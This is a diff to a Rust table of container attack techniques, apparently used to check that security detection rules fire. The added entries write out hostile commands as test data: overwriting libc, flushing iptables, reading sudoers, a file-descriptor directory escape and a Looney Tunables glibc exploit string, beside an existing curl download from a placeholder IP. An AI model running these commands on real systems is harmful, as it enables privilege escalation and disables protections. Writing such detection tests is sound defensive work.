@@ -1,6 +1,6 @@
 //! The techniques: what each is, how it is carried out, and the rule that has to tell of it.
 
-use self::Where::{Plain, Privileged};
+use self::Where::{Plain, Privileged, Terminal};
 
 /// Which container it happens in.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -9,6 +9,8 @@ pub(crate) enum Where {
     Plain,
     /// One with [`RIGHTS`], and with addresses that are not private.
     Privileged,
+    /// The first, by a shell with a terminal.
+    Terminal,
 }
 
 /// What makes a container one that can be left, short of `--privileged`, which not every machine can give.
@@ -518,5 +520,33 @@ pub(crate) static ATTACKS: &[Attack] = &[
         Plain,
         "curl -o /tmp/x http://203.0.113.1/x",
         "Download by a shell's tool into a directory for all",
+    ),
+    // The rest of the rules
+    attack("shell with a terminal", Terminal, "exit", "Terminal shell in a container"),
+    attack("rules of sudo read", Plain, "cat /etc/sudoers.d/x", "Sudo rules read"),
+    attack(
+        "library of the system replaced",
+        Plain,
+        "cp /bin/true /usr/lib/libc.so.7",
+        "System library changed",
+    ),
+    attack(
+        "kernel module unloaded",
+        Plain,
+        "attack delete-module",
+        "Kernel module unloaded in a container",
+    ),
+    attack(
+        "directory of a descriptor",
+        Plain,
+        "exec 3</; cd /proc/self/fd/3",
+        "Container started in a descriptor's directory",
+    ),
+    attack("firewall turned off", Plain, "iptables -F", "Protection turned off"),
+    attack(
+        "looney tunables",
+        Plain,
+        "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A /bin/true",
+        "Environment of a known exploit",
     ),
 ];
